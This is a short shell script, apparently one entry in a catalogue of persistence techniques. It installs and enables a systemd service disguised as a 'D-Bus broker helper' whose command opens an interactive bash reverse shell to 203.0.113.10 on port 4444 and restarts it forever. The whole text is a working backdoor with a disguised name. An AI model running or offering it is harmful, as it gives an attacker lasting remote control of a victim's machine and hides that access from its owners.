# description: Installs and enables a systemd service that restarts a reverse shell forever.
# family: persistence
cat > /etc/systemd/system/dbus-broker-helper.service <<'EOF'
[Unit]
Description=D-Bus broker helper
After=network-online.target

[Service]
ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1'
Restart=always
RestartSec=60

[Install]
WantedBy=multi-user.target
EOF
systemctl daemon-reload
systemctl enable --now dbus-broker-helper.service
